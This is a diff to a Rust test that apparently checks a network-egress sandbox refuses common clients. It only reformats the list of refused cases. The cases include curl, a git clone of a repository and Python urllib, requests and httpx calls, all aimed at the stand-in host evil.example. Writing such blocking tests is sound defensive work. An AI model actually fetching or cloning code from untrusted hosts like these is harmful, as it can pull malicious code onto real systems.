@@ -169,10 +169,22 @@ fn clients_that_people_use_get_through_and_are_refused_with_a_reason() {
     }
     let refused = [
         ("curl", "curl -sS https://evil.example/".to_owned()),
-        ("git", "git clone -q https://evil.example/greeting.git".to_owned()),
-        ("urllib", python("import urllib.request as r; r.urlopen('https://evil.example/')")),
-        ("requests", python("import requests; requests.get('https://evil.example/')")),
-        ("httpx", python("import httpx; httpx.get('https://evil.example/')")),
+        (
+            "git",
+            "git clone -q https://evil.example/greeting.git".to_owned(),
+        ),
+        (
+            "urllib",
+            python("import urllib.request as r; r.urlopen('https://evil.example/')"),
+        ),
+        (
+            "requests",
+            python("import requests; requests.get('https://evil.example/')"),
+        ),
+        (
+            "httpx",
+            python("import httpx; httpx.get('https://evil.example/')"),
+        ),
     ];
     for (client, script) in refused {
         let (code, text) = run(&script);
